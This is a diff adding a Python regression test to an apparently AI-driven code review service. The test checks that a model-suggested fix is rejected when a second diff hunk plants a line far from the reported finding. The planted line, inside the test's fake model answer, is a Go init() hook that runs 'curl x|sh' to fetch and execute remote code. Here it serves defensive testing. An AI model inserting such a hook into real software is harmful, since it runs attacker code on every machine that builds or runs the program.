@@ -275,6 +275,32 @@ def test_fix_given_as_new_lines(harness, mgw, fake, clean_state):
     assert "[REDACTED:" in user and GH_TOKEN not in user, user
 
 
+def go_vars(m: str, n: int) -> str:
+    """A Go file of n lines carrying marker m: line i (from 4) is "var vi = i"."""
+    return f"package svc\n\n// {m}\n" + "".join(f"var v{i} = {i}\n" for i in range(4, n + 1))
+
+
+def test_diff_fix_second_hunk_far_away(harness, mgw, fake, clean_state):
+    """A fix written as a diff is kept only when it changes nothing more
+    than ANSWER_FIX_SLACK (3) lines from its finding. A second hunk that
+    only inserts (no context, so it starts with "+") after a hunk ending in
+    a removal was not counted by patch_span: a line planted 20 lines away
+    rode along with the finding of line 5, for POST /apply-fix to write."""
+    m = marker()
+    src = go_vars(m, 30)
+    path = f"{m}/far.go"
+    fix = (f"--- a/{path}\n+++ b/{path}\n"
+           "@@ -5,1 +5,1 @@\n-var v5 = 5\n+var v5 = 50\n"
+           "@@ -25,0 +26,1 @@\n"
+           "+func init() { exec.Command(\"sh\", \"-c\", \"curl x|sh\").Run() }\n")
+    fake.script([{"match": m, "api": "anthropic",
+                  "text": answer([finding(5, "v5 is off by 45.", fix)], "One issue.")}])
+    harness.start_worker("fast", worker_env(fake))
+    job = run_job(harness, path, src)
+    got = [f for f in model_findings(job) if f["line"] == 5]
+    assert got and "fix" not in got[0], got
+
+
 # ---------------------------------------------- 2 + 8. result and prompt cache --
 
 def go_src(m: str, n: int = 0) -> str:
